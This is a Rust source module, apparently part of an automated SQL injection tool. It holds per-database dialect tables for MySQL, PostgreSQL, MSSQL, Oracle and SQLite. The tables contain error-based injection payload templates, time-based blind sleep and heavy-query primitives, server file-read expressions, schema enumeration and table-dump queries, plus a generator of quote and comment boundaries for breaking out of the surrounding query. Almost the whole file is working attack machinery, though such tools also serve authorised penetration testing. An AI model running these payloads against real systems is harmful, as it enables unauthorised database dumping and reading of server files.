//! DBMS Knowledge Base.
//!
//! A dialect table indexed by the canonical `Dbms` variant: a tagged
//! variant plus a dialect table indexed by canonical name, rather than
//! a class hierarchy. Payload string literals live as per-DBMS
//! expression builders in the `Dialect` struct instead of one giant
//! flat list.

pub mod payload;

use std::collections::HashMap;

use once_cell::sync::Lazy;

use crate::model::Dbms;

/// What a dialect is known to support. Informational for now — no
/// technique currently branches on it, but it documents what each
/// dialect is and isn't capable of.
#[derive(Debug, Clone, Copy)]
pub struct Capabilities {
    pub stacked_queries: bool,
    pub error_based: bool,
    pub union_based: bool,
    pub file_read: bool,
    pub file_write: bool,
    pub os_command: bool,
    pub out_of_band: bool,
    pub subqueries: bool,
    pub case_when: bool,
    pub limit_offset: bool,
}

/// A DBMS-specific dialect: SQL expression builders, error-payload
/// templates, and the lexical boundary tokens needed to close and
/// comment out the surrounding query.
pub struct Dialect {
    pub dbms: Dbms,
    pub capabilities: Capabilities,
    pub concatenate: fn(&[&str]) -> String,
    pub substring: fn(expr: &str, start: i64, len: i64) -> String,
    pub length: fn(expr: &str) -> String,
    pub ascii: fn(expr: &str) -> String,
    pub char_fn: fn(code: u32) -> String,
    pub version_expr: &'static str,
    pub user_expr: &'static str,
    pub current_db_expr: &'static str,
    pub hostname_expr: &'static str,
    pub list_databases_query: &'static str,
    pub list_tables_query: &'static str,
    pub list_columns_query: &'static str,
    pub dump_query_template: &'static str, // uses {table}, {columns}, {limit}, {offset}
    pub error_payload_templates: &'static [&'static str], // each contains "{{.Query}}"
    pub sleep_fn: fn(seconds: u64) -> String,
    pub heavy_query: &'static str,
    pub if_then_else: fn(cond: &str, then_expr: &str, else_expr: &str) -> String,
    pub quote: fn(value: &str) -> String,
    pub line_comment: &'static str,
    pub inline_comment: (&'static str, &'static str),
    pub file_read_expr: fn(path: &str) -> String,
}

fn generic_concatenate(parts: &[&str]) -> String {
    format!("CONCAT({})", parts.join(", "))
}

/// Doubles embedded single quotes, the lowest-common-denominator
/// quoting rule shared by all five dialects.
fn double_quote(value: &str) -> String {
    value.replace('\'', "''")
}

static MYSQL: Lazy<Dialect> = Lazy::new(|| Dialect {
    dbms: Dbms::MySQL,
    capabilities: Capabilities {
        stacked_queries: false,
        error_based: true,
        union_based: true,
        file_read: true,
        file_write: true,
        os_command: false,
        out_of_band: false,
        subqueries: true,
        case_when: true,
        limit_offset: true,
    },
    concatenate: generic_concatenate,
    substring: |expr, start, len| format!("SUBSTRING({},{},{})", expr, start, len),
    length: |expr| format!("LENGTH({})", expr),
    ascii: |expr| format!("ASCII({})", expr),
    char_fn: |code| format!("CHAR({})", code),
    version_expr: "@@version",
    user_expr: "CURRENT_USER()",
    current_db_expr: "DATABASE()",
    hostname_expr: "@@hostname",
    list_databases_query: "SELECT schema_name FROM information_schema.schemata",
    list_tables_query: "SELECT table_name FROM information_schema.tables WHERE table_schema=DATABASE()",
    list_columns_query:
        "SELECT column_name FROM information_schema.columns WHERE table_name='{table}'",
    dump_query_template: "SELECT {columns} FROM {table} LIMIT {limit} OFFSET {offset}",
    error_payload_templates: &[
        "AND EXTRACTVALUE(1,CONCAT(0x7e,({{.Query}}),0x7e))",
        "AND UPDATEXML(1,CONCAT(0x7e,({{.Query}}),0x7e),1)",
    ],
    sleep_fn: |seconds| format!("SLEEP({})", seconds),
    heavy_query: "(SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B)",
    if_then_else: |cond, then_expr, else_expr| format!("IF({},{},{})", cond, then_expr, else_expr),
    quote: double_quote,
    line_comment: "-- ",
    inline_comment: ("/*", "*/"),
    file_read_expr: |path| format!("LOAD_FILE('{}')", path),
});

static POSTGRESQL: Lazy<Dialect> = Lazy::new(|| Dialect {
    dbms: Dbms::PostgreSQL,
    capabilities: Capabilities {
        stacked_queries: true,
        error_based: true,
        union_based: true,
        file_read: true,
        file_write: true,
        os_command: false,
        out_of_band: true,
        subqueries: true,
        case_when: true,
        limit_offset: true,
    },
    concatenate: |parts| parts.join(" || "),
    substring: |expr, start, len| format!("SUBSTRING({} FROM {} FOR {})", expr, start, len),
    length: |expr| format!("LENGTH({})", expr),
    ascii: |expr| format!("ASCII({})", expr),
    char_fn: |code| format!("CHR({})", code),
    version_expr: "version()",
    user_expr: "CURRENT_USER",
    current_db_expr: "CURRENT_DATABASE()",
    hostname_expr: "INET_SERVER_ADDR()",
    list_databases_query: "SELECT datname FROM pg_database",
    list_tables_query: "SELECT table_name FROM information_schema.tables WHERE table_schema='public'",
    list_columns_query:
        "SELECT column_name FROM information_schema.columns WHERE table_name='{table}'",
    dump_query_template: "SELECT {columns} FROM {table} LIMIT {limit} OFFSET {offset}",
    error_payload_templates: &[
        "AND 1=CAST(({{.Query}}) AS int)",
        "AND CAST(({{.Query}}) AS int)=1",
    ],
    sleep_fn: |seconds| format!("(SELECT 1 FROM PG_SLEEP({}))", seconds),
    heavy_query: "(SELECT COUNT(*) FROM generate_series(1,5000000))",
    if_then_else: |cond, then_expr, else_expr| {
        format!(
            "(CASE WHEN ({}) THEN ({}) ELSE ({}) END)",
            cond, then_expr, else_expr
        )
    },
    quote: double_quote,
    line_comment: "-- ",
    inline_comment: ("/*", "*/"),
    file_read_expr: |path| format!("pg_read_file('{}')", path),
});

static MSSQL: Lazy<Dialect> = Lazy::new(|| Dialect {
    dbms: Dbms::MSSQL,
    capabilities: Capabilities {
        stacked_queries: true,
        error_based: true,
        union_based: true,
        file_read: true,
        file_write: false,
        os_command: true,
        out_of_band: true,
        subqueries: true,
        case_when: true,
        limit_offset: false,
    },
    concatenate: |parts| parts.join(" + "),
    substring: |expr, start, len| format!("SUBSTRING({},{},{})", expr, start, len),
    length: |expr| format!("LEN({})", expr),
    ascii: |expr| format!("ASCII({})", expr),
    char_fn: |code| format!("CHAR({})", code),
    version_expr: "@@version",
    user_expr: "USER_NAME()",
    current_db_expr: "DB_NAME()",
    hostname_expr: "HOST_NAME()",
    list_databases_query: "SELECT name FROM sys.databases",
    list_tables_query: "SELECT table_name FROM information_schema.tables",
    list_columns_query:
        "SELECT column_name FROM information_schema.columns WHERE table_name='{table}'",
    dump_query_template:
        "SELECT {columns} FROM {table} ORDER BY (SELECT NULL) OFFSET {offset} ROWS FETCH NEXT {limit} ROWS ONLY",
    error_payload_templates: &[
        "AND 1=CONVERT(int,({{.Query}}))",
        "AND 1=CAST(({{.Query}}) AS int)",
    ],
    sleep_fn: |seconds| format!("WAITFOR DELAY '0:0:{}'", seconds),
    heavy_query: "(SELECT COUNT(*) FROM sys.all_objects A, sys.all_objects B, sys.all_objects C)",
    if_then_else: |cond, then_expr, else_expr| {
        format!(
            "(CASE WHEN ({}) THEN ({}) ELSE ({}) END)",
            cond, then_expr, else_expr
        )
    },
    quote: double_quote,
    line_comment: "-- ",
    inline_comment: ("/*", "*/"),
    file_read_expr: |path| format!("(SELECT * FROM OPENROWSET(BULK '{}', SINGLE_CLOB) AS f)", path),
});

static ORACLE: Lazy<Dialect> = Lazy::new(|| Dialect {
    dbms: Dbms::Oracle,
    capabilities: Capabilities {
        stacked_queries: false,
        error_based: true,
        union_based: true,
        file_read: false,
        file_write: false,
        os_command: false,
        out_of_band: true,
        subqueries: true,
        case_when: true,
        limit_offset: false,
    },
    concatenate: |parts| parts.join(" || "),
    substring: |expr, start, len| format!("SUBSTR({},{},{})", expr, start, len),
    length: |expr| format!("LENGTH({})", expr),
    ascii: |expr| format!("ASCII({})", expr),
    char_fn: |code| format!("CHR({})", code),
    version_expr: "(SELECT banner FROM v$version WHERE ROWNUM=1)",
    user_expr: "USER",
    current_db_expr: "(SELECT global_name FROM global_name)",
    hostname_expr: "(SELECT host_name FROM v$instance)",
    list_databases_query: "SELECT global_name FROM global_name",
    list_tables_query: "SELECT table_name FROM all_tables",
    list_columns_query: "SELECT column_name FROM all_tab_columns WHERE table_name='{table}'",
    dump_query_template:
        "SELECT {columns} FROM (SELECT a.*, ROWNUM rnum FROM (SELECT {columns} FROM {table}) a WHERE ROWNUM <= {limit}) WHERE rnum > {offset}",
    error_payload_templates: &[
        "AND 1=UTL_INADDR.GET_HOST_NAME(({{.Query}}))",
        "AND 1=CTXSYS.DRITHSX.SN(1,({{.Query}}))",
    ],
    sleep_fn: |seconds| format!("DBMS_LOCK.SLEEP({})", seconds),
    heavy_query: "(SELECT COUNT(*) FROM all_objects a, all_objects b)",
    if_then_else: |cond, then_expr, else_expr| {
        format!(
            "(CASE WHEN {} THEN {} ELSE {} END)",
            cond, then_expr, else_expr
        )
    },
    quote: double_quote,
    line_comment: "-- ",
    inline_comment: ("/*", "*/"),
    file_read_expr: |path| format!("UTL_FILE.FOPEN('{}','r')", path),
});

static SQLITE: Lazy<Dialect> = Lazy::new(|| Dialect {
    dbms: Dbms::SQLite,
    capabilities: Capabilities {
        stacked_queries: false,
        error_based: false,
        union_based: true,
        file_read: false,
        file_write: false,
        os_command: false,
        out_of_band: false,
        subqueries: true,
        case_when: true,
        limit_offset: true,
    },
    concatenate: |parts| parts.join(" || "),
    substring: |expr, start, len| format!("SUBSTR({},{},{})", expr, start, len),
    length: |expr| format!("LENGTH({})", expr),
    ascii: |expr| format!("UNICODE({})", expr),
    char_fn: |code| format!("CHAR({})", code),
    version_expr: "sqlite_version()",
    user_expr: "'(no user concept in SQLite)'",
    current_db_expr: "'main'",
    hostname_expr: "'(no hostname concept in SQLite)'",
    list_databases_query: "PRAGMA database_list",
    list_tables_query: "SELECT name FROM sqlite_master WHERE type='table'",
    list_columns_query: "PRAGMA table_info({table})",
    dump_query_template: "SELECT {columns} FROM {table} LIMIT {limit} OFFSET {offset}",
    error_payload_templates: &["AND 1=CAST(({{.Query}}) AS int)"],
    sleep_fn: |seconds| format!("LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({}))))", seconds * 100_000_000),
    heavy_query: "(SELECT COUNT(*) FROM sqlite_master A, sqlite_master B, sqlite_master C)",
    if_then_else: |cond, then_expr, else_expr| {
        format!(
            "(CASE WHEN {} THEN {} ELSE {} END)",
            cond, then_expr, else_expr
        )
    },
    quote: double_quote,
    line_comment: "-- ",
    inline_comment: ("/*", "*/"),
    file_read_expr: |_path| "NULL".to_string(),
});

static REGISTRY: Lazy<HashMap<Dbms, &'static Dialect>> = Lazy::new(|| {
    let mut m: HashMap<Dbms, &'static Dialect> = HashMap::new();
    m.insert(Dbms::MySQL, &MYSQL);
    m.insert(Dbms::PostgreSQL, &POSTGRESQL);
    m.insert(Dbms::MSSQL, &MSSQL);
    m.insert(Dbms::Oracle, &ORACLE);
    m.insert(Dbms::SQLite, &SQLITE);
    m
});

pub fn dialect(dbms: Dbms) -> &'static Dialect {
    REGISTRY.get(&dbms).expect("every Dbms variant has a dialect")
}

/// A `(prefix, suffix)` pair that closes and comments out the SQL
/// context surrounding the injection point (GLOSSARY: Boundary).
#[derive(Debug, Clone)]
pub struct Boundary {
    pub prefix: &'static str,
    pub suffix: &'static str,
}

/// Candidate boundaries to try, in order, for a given parameter
/// context. Integer contexts need no opening quote; string contexts try
/// both quote styles. The inline-comment suffix (`/*`) and MySQL's `#`
/// line comment are only offered where the dialect actually supports
/// them — the comment style must match the target DBMS.
pub fn candidate_boundaries(is_string_context: bool, dbms: Dbms) -> Vec<Boundary> {
    let mut suffixes = vec!["-- ", "/*", " "];
    if dbms == Dbms::MySQL {
        suffixes.push("#");
    }

    let mut boundaries = Vec::new();
    if is_string_context {
        for prefix in ["'", "\""] {
            for suffix in &suffixes {
                boundaries.push(Boundary { prefix, suffix });
            }
        }
    } else {
        for suffix in &suffixes {
            boundaries.push(Boundary { prefix: "", suffix });
        }
    }
    boundaries
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_dbms_has_a_dialect() {
        for dbms in Dbms::ALL {
            let d = dialect(dbms);
            assert_eq!(d.dbms, dbms);
        }
    }

    #[test]
    fn aliases_resolve_to_canonical_names() {
        assert_eq!(Dbms::from_name("postgres"), Some(Dbms::PostgreSQL));
        assert_eq!(Dbms::from_name("sqlserver"), Some(Dbms::MSSQL));
        assert_eq!(Dbms::from_name("unknown-dbms"), None);
    }

    #[test]
    fn mysql_gets_the_hash_comment_boundary() {
        let boundaries = candidate_boundaries(true, Dbms::MySQL);
        assert!(boundaries.iter().any(|b| b.suffix == "#"));
        let boundaries = candidate_boundaries(true, Dbms::PostgreSQL);
        assert!(!boundaries.iter().any(|b| b.suffix == "#"));
    }
}
